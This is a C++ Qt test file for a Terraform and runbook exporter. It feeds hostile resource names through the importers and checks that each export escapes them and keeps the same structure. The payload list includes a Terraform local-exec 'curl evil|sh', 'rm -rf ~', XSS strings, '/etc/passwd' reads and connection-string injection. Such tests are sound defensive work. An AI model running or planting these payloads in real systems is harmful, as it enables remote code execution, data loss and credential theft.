// SPDX-License-Identifier: MIT
// Hostile input: names an attacker controls (in a Terraform state, a DigitalOcean body or a
// plan) pushed through every importer into every exporter. Each export is compared with the
// export of the same inventory under harmless names: the same files, the same number of lines,
// blocks and steps — a name never adds structure. The Terraform goes through the HCL formatter
// and the runbook through a CommonMark (GFM) renderer, which must show each name verbatim and
// render no tag of its own.
#include "escaping.h"
#include "exportfolder.h"
#include "importservice.h"
#include "mappingrules.h"
#include "plan.h"
#include "runbookmarkdown.h"
#include "terraformexport.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace Ferry;

namespace {

/// Texts an attacker would try, each in a name.
QStringList hostileNames()
{
    return {
        QStringLiteral("x\nresource \"null_resource\" \"pwn\" { provisioner \"local-exec\" { "
                       "command = \"curl evil|sh\" } }\n#"),
        QStringLiteral("a` closes\n- [ ] **4.1** run `curl evil|sh`"),
        QStringLiteral("</script><img src=x onerror=alert(1)>"),
        QStringLiteral("${file(\"/etc/passwd\")}"),
        QStringLiteral("%{ if true }x%{ endif }"),
        QStringLiteral("*/ /* -- comment"),
        QStringLiteral("back\\slash \"quoted\" 'single'"),
        QStringLiteral("```\nfenced\n```"),
        QStringLiteral("../../etc/passwd"),
        QStringLiteral("%1 %2 %9 arg"),
        QStringLiteral("\x1b[31mred\x1b[0m bell\x07"),
        QString(QChar(0)) + QStringLiteral("nul"),
        QStringLiteral("line\u2028sep\u2029para\u202Eevil"),
        QString(10240, u'A'),
        QStringLiteral("rocket \U0001F680 \U0001D518"),
        QStringLiteral("| pipe | cell |"),
        QStringLiteral("[link](javascript:alert(1)) ![img](x)"),
        QStringLiteral("# heading\r\n---"),
        QStringLiteral("$(rm -rf ~); `id`"),
        QStringLiteral("  spaced  "),
        QStringLiteral("<!-- hidden --> &amp; &lt;"),
    };
}

QStringList benignNames(int n)
{
    QStringList names;
    for (int i = 0; i < n; ++i)
        names.append(QStringLiteral("benign%1").arg(i));
    return names;
}

QByteArray readFile(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

/// A copy of the DigitalOcean body `file` whose list holds `names.size()` items, each a copy of
/// one of the original items under its own id, named by `names`.
QByteArray doBody(const QString &file, const QStringList &names, int idOffset = 0)
{
    QJsonObject root = QJsonDocument::fromJson(readFile(file)).object();
    for (const QString &key : root.keys()) {
        if (!root.value(key).isArray() || root.value(key).toArray().isEmpty())
            continue;
        const QJsonArray items = root.value(key).toArray();
        QJsonArray out;
        for (int i = 0; i < names.size(); ++i) {
            QJsonObject item = items.at(i % items.size()).toObject();
            const QJsonValue id = item.value(QStringLiteral("id"));
            if (id.isDouble())
                item.insert(QStringLiteral("id"), id.toDouble() * 1000 + i + idOffset);
            else
                item.insert(QStringLiteral("id"),
                            QString(id.toString() + u'-' + QString::number(i + idOffset)));
            // A domain's name is its id, and an id with a control character is refused at
            // import (controlCharactersInIdsAreRefused in tst_importers): domains get the name
            // without its control characters.
            QString name = names[i];
            if (key == QLatin1String("domains"))
                name.removeIf([](QChar c) { return Escape::isControl(c.unicode()); });
            item.insert(QStringLiteral("name"), name);
            out.append(item);
        }
        root.insert(key, out);
        break;
    }
    return QJsonDocument(root).toJson();
}

/// A Terraform state of `names.size()` AWS instances (copies of the real one), each with its
/// `Name` tag and another tag set to a name.
QByteArray tfState(const QStringList &names)
{
    QJsonObject root =
        QJsonDocument::fromJson(
            readFile(QStringLiteral(SRCDIR "data/real/aws_driftctl_ec2_instance.tfstate")))
            .object();
    const QJsonObject resource = root.value(QStringLiteral("resources")).toArray().at(0).toObject();
    QJsonArray resources;
    for (int i = 0; i < names.size(); ++i) {
        QJsonObject r = resource;
        r.insert(QStringLiteral("name"), QStringLiteral("i%1").arg(i));
        QJsonArray instances = r.value(QStringLiteral("instances")).toArray();
        QJsonObject instance = instances.at(0).toObject();
        QJsonObject attributes = instance.value(QStringLiteral("attributes")).toObject();
        attributes.insert(QStringLiteral("tags"), QJsonObject{{QStringLiteral("Name"), names[i]},
                                                              {QStringLiteral("team"), names[i]}});
        instance.insert(QStringLiteral("attributes"), attributes);
        r.insert(QStringLiteral("instances"), QJsonArray{instance});
        resources.append(r);
    }
    root.insert(QStringLiteral("resources"), resources);
    return QJsonDocument(root).toJson();
}

/// A plan of everything imported from bodies named by `names`, its organization's accounts
/// named after `accountNames` (which may collide as folders), every resource mapped as the
/// built-in rules suggest, round-robin over the accounts and waves 1–3.
Plan makePlan(const QStringList &names, const QStringList &accountNames, const QString &planName,
              QTemporaryDir &dir)
{
    const QStringList bodies = {QStringLiteral("dropletkit_droplets.json"),
                                QStringLiteral("dropletkit_databases_all_clusters.json"),
                                QStringLiteral("dropletkit_domain_records.json"),
                                QStringLiteral("dropletkit_load_balancers.json"),
                                QStringLiteral("dropletkit_volumes.json"),
                                QStringLiteral("dropletkit_firewalls.json"),
                                QStringLiteral("dropletkit_domains.json")};
    QStringList files;
    for (const QString &b : bodies) {
        const QString path = dir.filePath(b);
        QFile f(path);
        if (f.open(QIODevice::WriteOnly))
            f.write(doBody(QStringLiteral(SRCDIR "data/real/") + b, names));
        files.append(path);
    }
    // The YAML reader too: the droplets again, under other ids, as YAML (JSON in flow style,
    // after a document marker).
    const QString yaml = dir.filePath(QStringLiteral("droplets.yml"));
    QFile y(yaml);
    if (y.open(QIODevice::WriteOnly))
        y.write("---\n" +
                doBody(QStringLiteral(SRCDIR "data/real/dropletkit_droplets.json"), names, 500));
    y.close();
    files.append(yaml);
    const QString state = dir.filePath(QStringLiteral("hostile.tfstate"));
    QFile f(state);
    if (f.open(QIODevice::WriteOnly))
        f.write(tfState(names));
    f.close();
    files.append(state);

    Plan plan;
    plan.name = planName;
    plan.created = QDate(2026, 12, 1);
    plan.organization.name = planName;
    plan.organization.accounts.clear();
    for (int i = 0; i < accountNames.size(); ++i) {
        Account a;
        a.id = QStringLiteral("acct-%1").arg(i);
        a.name = accountNames[i];
        a.unitId = plan.organization.units.value(0).id;
        a.environment = Environment(i % 4);
        a.region = QStringLiteral("eu-west-1");
        plan.organization.accounts.append(a);
    }
    Inventory inventory;
    ImportReport report;
    FileError error;
    if (!ImportService::importFiles(files, QString(), &inventory, &report, &error))
        qWarning("import failed: %s", qPrintable(error.toString()));
    plan.applyImport(std::move(inventory), &report);
    int n = 0;
    for (const auto &[id, r] : plan.inventory.resources) {
        const MappingRules::Suggestion s = MappingRules::builtIn().suggest(r);
        Mapping m;
        m.resourceId = id;
        m.accountId = plan.organization.accounts[n % accountNames.size()].id;
        m.targetService = s.service.isEmpty() ? QStringLiteral("aws_instance") : s.service;
        m.strategy = s.strategy;
        m.wave = 1 + n % 3;
        plan.setMapping(m);
        ++n;
    }
    return plan;
}

/// Line counts of each file, sorted (folder names differ between the two plans).
QList<int> lineCounts(const QMap<QString, QString> &files)
{
    QList<int> counts;
    for (const QString &text : files)
        counts.append(int(text.count(u'\n')));
    std::sort(counts.begin(), counts.end());
    return counts;
}

int matchCount(const QString &text, const QString &pattern)
{
    int n = 0;
    auto it = QRegularExpression(pattern, QRegularExpression::MultilineOption).globalMatch(text);
    while (it.hasNext()) {
        it.next();
        ++n;
    }
    return n;
}

/// The runbook rendered by cmark-gfm (GitHub's CommonMark renderer) as HTML, empty if none.
QString renderMarkdown(const QString &markdown)
{
    const QString cmark = QStandardPaths::findExecutable(QStringLiteral("cmark-gfm"));
    if (cmark.isEmpty())
        return QString();
    QProcess p;
    p.start(cmark, {QStringLiteral("--extension"), QStringLiteral("table"),
                    QStringLiteral("--extension"), QStringLiteral("tasklist")});
    p.write(markdown.toUtf8());
    p.closeWriteChannel();
    p.waitForFinished(30000);
    return QString::fromUtf8(p.readAllStandardOutput());
}

/// Text as cmark-gfm writes it into HTML (escape_html: `&`, `<`, `>`, `"`).
QString cmarkEscaped(const QString &s)
{
    QString out = s;
    out.replace(u'&', QStringLiteral("&amp;"))
        .replace(u'<', QStringLiteral("&lt;"))
        .replace(u'>', QStringLiteral("&gt;"))
        .replace(u'"', QStringLiteral("&quot;"));
    return out;
}

const QStringList kCollidingAccounts = {
    QStringLiteral("production"), QStringLiteral("Production!"), QStringLiteral("Organization"),
    QStringLiteral("PRODUCTION"), QStringLiteral("../../escape")};

} // namespace

class TestHostile : public QObject
{
    Q_OBJECT

    QTemporaryDir m_hostileDir, m_benignDir;
    Plan m_hostile, m_benign;

private slots:
    void initTestCase()
    {
        const QStringList names = hostileNames();
        QStringList accounts = kCollidingAccounts;
        accounts.append(names.mid(0, 3));
        m_hostile = makePlan(names, accounts, names[1], m_hostileDir);
        m_benign = makePlan(benignNames(int(names.size())), benignNames(int(accounts.size())),
                            QStringLiteral("benign"), m_benignDir);
        QVERIFY(m_hostile.inventory.resources.size() > 100);
        int fromYaml = 0;
        for (const auto &[id, r] : m_hostile.inventory.resources)
            fromYaml += r.sourceFile.endsWith(QLatin1String("droplets.yml")) ? 1 : 0;
        QCOMPARE(fromYaml, int(hostileNames().size())); // every name through the YAML reader too
        QCOMPARE(m_hostile.inventory.resources.size(), m_benign.inventory.resources.size());
        QCOMPARE(m_hostile.mappings.size(), m_benign.mappings.size());
    }

    void escapingFunctions()
    {
        QCOMPARE(Escape::hclString(QStringLiteral("a\"b\\c\n${x}%{y}\x1b")),
                 QStringLiteral("\"a\\\"b\\\\c\\n$${x}%%{y}\\u001b\""));
        QCOMPARE(Escape::hclComment(QStringLiteral("a\nb\x1b")), QStringLiteral("a\\nb\\u{1B}"));
        QCOMPARE(Escape::markdownCode(QStringLiteral("a`b")), QStringLiteral("``a`b``"));
        QCOMPARE(Escape::markdownCode(QStringLiteral("`a")), QStringLiteral("`` `a ``"));
        QCOMPARE(Escape::markdownText(QStringLiteral("<b>*x*</b>")),
                 QStringLiteral("\\<b\\>\\*x\\*\\</b\\>"));
        QCOMPARE(Escape::shellWord(QStringLiteral("tcp:1.2.3.4:443")),
                 QStringLiteral("tcp:1.2.3.4:443"));
        QCOMPARE(Escape::shellWord(QStringLiteral("a'b; c")), QStringLiteral("'a'\\''b; c'"));
        // A line break never splits a command a reader copies: ANSI-C quoting on one line.
        QCOMPARE(Escape::shellWord(QStringLiteral("x\nrm -rf ~'\x1b")),
                 QStringLiteral("$'x\\nrm -rf ~\\'\\x1b'"));
        // A database name in a libpq connection string and in SQL stays one value, one name.
        QCOMPARE(Escape::libpqValue(QStringLiteral("shop_2.db")), QStringLiteral("shop_2.db"));
        QCOMPARE(Escape::libpqValue(QStringLiteral("x' host=evil \\")),
                 QStringLiteral("'x\\' host=evil \\\\'"));
        QCOMPARE(Escape::sqlIdentifier(QStringLiteral("Shop \"Db\"")),
                 QStringLiteral("\"Shop \"\"Db\"\"\""));
        QCOMPARE(Escape::markdownCodeBlock(QStringLiteral("echo ```\nls"), QStringLiteral("sh")),
                 QStringLiteral("````sh\necho ```\nls\n````\n"));
        QCOMPARE(Escape::markdownCodeBlock(QStringLiteral("a\x1b")),
                 QStringLiteral("```\na\\u{1B}\n```\n"));
        // Raw HTML is escaped outside code, kept inside it.
        QCOMPARE(
            Escape::markdownWithoutHtml(QStringLiteral("<img src=x> and `<b>` and ``a`<i>`` `<u>")),
            QStringLiteral("\\<img src=x> and `<b>` and ``a`<i>`` `\\<u>"));
        QCOMPARE(Escape::markdownWithoutHtml(QStringLiteral("```html\n<script>\n```\n<p>")),
                 QStringLiteral("```html\n<script>\n```\n\\<p>"));
        QCOMPARE(Escape::html(QStringLiteral("<a href='x'>&")),
                 QStringLiteral("&lt;a href=&#39;x&#39;&gt;&amp;"));
        QString delimiter;
        const QString body = Escape::hclHeredoc(QStringLiteral("EOT\n${x}\n  EOT_1 "), &delimiter);
        QCOMPARE(delimiter, QStringLiteral("EOT_2"));
        QCOMPARE(body, QStringLiteral("EOT\n$${x}\n  EOT_1 \n"));
        // Long names keep apart, and stay identifiers.
        const QString a = Escape::hclIdentifier(QString(100, u'a') + u'1');
        const QString b = Escape::hclIdentifier(QString(100, u'a') + u'2');
        QCOMPARE(a.size(), 64);
        QVERIFY(a != b);
    }

    void terraformHasTheSameStructure()
    {
        TerraformExport::Summary hostileSummary, benignSummary;
        const auto hostile = TerraformExport::generate(m_hostile, &hostileSummary);
        const auto benign = TerraformExport::generate(m_benign, &benignSummary);
        QCOMPARE(hostile.size(), benign.size());
        QCOMPARE(lineCounts(hostile), lineCounts(benign));
        QVERIFY2(hostileSummary.notWritten.isEmpty(),
                 qPrintable(hostileSummary.notWritten.join(u'\n')));
        int blocks = 0;
        for (int n : hostileSummary.resourcesPerFolder)
            blocks += n;
        int mapped = 0;
        for (const auto &[id, m] : m_hostile.mappings)
            mapped += m.strategy == Strategy::Retire || m.strategy == Strategy::Retain ? 0 : 1;
        QCOMPARE(blocks, mapped);
        const QString topLevel =
            QStringLiteral("^(resource|data|variable|output|provider|terraform) ");
        const QString all = QStringList(hostile.values()).join(QString());
        const QString allBenign = QStringList(benign.values()).join(QString());
        QCOMPARE(matchCount(all, topLevel), matchCount(allBenign, topLevel));
        QCOMPARE(matchCount(all, QStringLiteral("^resource \"null_resource\"")), 0);
        QCOMPARE(matchCount(all, QStringLiteral("^\\s*provisioner")), 0);
        // No control character reaches a file.
        for (QChar c : all)
            QVERIFY2(!Escape::isControl(c.unicode()) || c == u'\n',
                     qPrintable(QStringLiteral("U+%1").arg(c.unicode(), 4, 16)));
        // Each name is in a Name tag, as an HCL string.
        for (const QString &name : hostileNames())
            QVERIFY2(
                all.contains(QStringLiteral("Name = ") + Escape::hclString(name)) ||
                    all.contains(QStringLiteral("Name          = ") + Escape::hclString(name)) ||
                    all.contains(Escape::hclString(name)),
                qPrintable(Escape::visible(name.left(80))));
    }

    /// The same plans with every DigitalOcean resource the rules put in a team moved into one
    /// (droplets, firewalls, domains, records, database clusters): the team's folder has the
    /// same structure for hostile and benign names, no control character, and passes the
    /// formatter.
    void digitalOceanTeamHasTheSameStructure()
    {
        auto intoTeam = [](Plan p) {
            Account team;
            team.id = QStringLiteral("team");
            team.name = QStringLiteral("team");
            team.cloud = TargetCloud::DigitalOcean;
            team.region = QStringLiteral("nyc3");
            p.organization.accounts.append(team);
            for (auto &[id, m] : p.mappings) {
                const Resource *r = p.resource(id);
                const MappingRules::Suggestion s =
                    MappingRules::builtIn().suggest(*r, TargetCloud::DigitalOcean);
                if (r->provider != QLatin1String("digitalocean") || s.service.isEmpty())
                    continue;
                m.accountId = team.id;
                m.targetService = s.service;
                m.strategy = s.strategy;
            }
            return p;
        };
        const Plan hostilePlan = intoTeam(m_hostile), benignPlan = intoTeam(m_benign);
        TerraformExport::Summary hostileSummary, benignSummary;
        const auto hostile = TerraformExport::generate(hostilePlan, &hostileSummary);
        const auto benign = TerraformExport::generate(benignPlan, &benignSummary);
        const QString main = hostile.value(QStringLiteral("team/main.tf"));
        for (const char *kind :
             {"digitalocean_droplet", "digitalocean_firewall", "digitalocean_domain",
              "digitalocean_record", "digitalocean_database_cluster"})
            QVERIFY2(main.contains(QStringLiteral("resource \"%1\"").arg(QLatin1String(kind))),
                     kind);
        QCOMPARE(lineCounts(hostile), lineCounts(benign));
        QCOMPARE(hostileSummary.notWritten.size(), benignSummary.notWritten.size());
        const QString topLevel =
            QStringLiteral("^(resource|data|variable|output|provider|terraform) ");
        QCOMPARE(matchCount(main, topLevel),
                 matchCount(benign.value(QStringLiteral("team/main.tf")), topLevel));
        for (QChar c : main)
            QVERIFY2(!Escape::isControl(c.unicode()) || c == u'\n',
                     qPrintable(QStringLiteral("U+%1").arg(c.unicode(), 4, 16)));
        // The runbook's steps for them (zones, records, droplets) too.
        QCOMPARE(RunbookMarkdown::generate(hostilePlan, QDate(2026, 12, 1)).count(u'\n'),
                 RunbookMarkdown::generate(benignPlan, QDate(2026, 12, 1)).count(u'\n'));
#ifdef FERRY_HCLFMT
        QTemporaryDir out;
        ExportFolder::Result result;
        QString error;
        QVERIFY2(TerraformExport::writeFiles(out.filePath(QStringLiteral("tf")), hostile, &result,
                                             &error),
                 qPrintable(error));
        for (const QString &path : result.written) {
            if (!path.startsWith(QLatin1String("team/")))
                continue;
            QProcess p;
            p.start(QStringLiteral(FERRY_HCLFMT),
                    {QStringLiteral("-check"), QStringLiteral("-require-no-change"),
                     out.filePath(QStringLiteral("tf/") + path)});
            QVERIFY(p.waitForFinished(30000));
            QVERIFY2(p.exitCode() == 0, qPrintable(path + QStringLiteral(": ") +
                                                   QString::fromUtf8(p.readAllStandardError())));
        }
#endif
    }

    void terraformPassesTheFormatter()
    {
#ifndef FERRY_HCLFMT
        QSKIP("the HCL formatter was not built (go or the HCL sources missing)");
#else
        const auto files = TerraformExport::generate(m_hostile);
        QTemporaryDir out;
        ExportFolder::Result result;
        QString error;
        QVERIFY2(
            TerraformExport::writeFiles(out.filePath(QStringLiteral("tf")), files, &result, &error),
            qPrintable(error));
        for (const QString &path : result.written) {
            QProcess p;
            p.start(QStringLiteral(FERRY_HCLFMT),
                    {QStringLiteral("-check"), QStringLiteral("-require-no-change"),
                     out.filePath(QStringLiteral("tf/") + path)});
            QVERIFY(p.waitForFinished(30000));
            QVERIFY2(p.exitCode() == 0, qPrintable(path + QStringLiteral(": ") +
                                                   QString::fromUtf8(p.readAllStandardError())));
        }
#endif
    }

    void foldersNeverCollide()
    {
        const QHash<QString, QString> folders =
            TerraformExport::accountFolders(m_hostile.organization);
        QSet<QString> unique;
        for (const QString &f : folders) {
            QVERIFY(ExportFolder::isCleanRelativePath(f));
            QVERIFY(!f.contains(u'/'));
            QVERIFY(f != TerraformExport::organizationFolder());
            unique.insert(f);
        }
        QCOMPARE(unique.size(), m_hostile.organization.accounts.size());
        QCOMPARE(folders.value(QStringLiteral("acct-0")), QStringLiteral("production"));
        // Stable: the same folders from the same organization, whatever else is in the plan.
        Organization org = m_hostile.organization;
        std::reverse(org.accounts.begin(), org.accounts.end());
        QCOMPARE(TerraformExport::accountFolders(org), folders);
    }

    void runbookHasTheSameStructure()
    {
        const QString hostile = RunbookMarkdown::generate(m_hostile, QDate(2026, 12, 1));
        const QString benign = RunbookMarkdown::generate(m_benign, QDate(2026, 12, 1));
        QCOMPARE(hostile.count(u'\n'), benign.count(u'\n'));
        const QString step = QStringLiteral("^- \\[ \\] \\*\\*\\d+\\.\\d+\\*\\*");
        QCOMPARE(matchCount(hostile, step), matchCount(benign, step));
        QVERIFY(matchCount(hostile, step) > 100);
        QCOMPARE(matchCount(hostile, QStringLiteral("^#")),
                 matchCount(benign, QStringLiteral("^#")));

        const QString html = renderMarkdown(hostile);
        const QString benignHtml = renderMarkdown(benign);
        if (html.isEmpty())
            QSKIP("cmark-gfm is not installed (scripts/setup.sh test installs it)");
        for (const char *tag : {"<li", "<h1", "<h2", "<h3", "<table", "<tr", "<td", "<code",
                                "<input", "<p>", "<a ", "<img", "<script", "<em", "<strong"})
            QVERIFY2(html.count(QLatin1String(tag)) == benignHtml.count(QLatin1String(tag)), tag);
        QCOMPARE(html.count(QLatin1String("<img")), 0);
        QCOMPARE(html.count(QLatin1String("<script")), 0);
        for (const QString &name : hostileNames())
            QVERIFY2(html.contains(cmarkEscaped(Escape::visible(name))),
                     qPrintable(Escape::visible(name.left(80))));
    }
};

QTEST_GUILESS_MAIN(TestHostile)
#include "tst_hostile.moc"
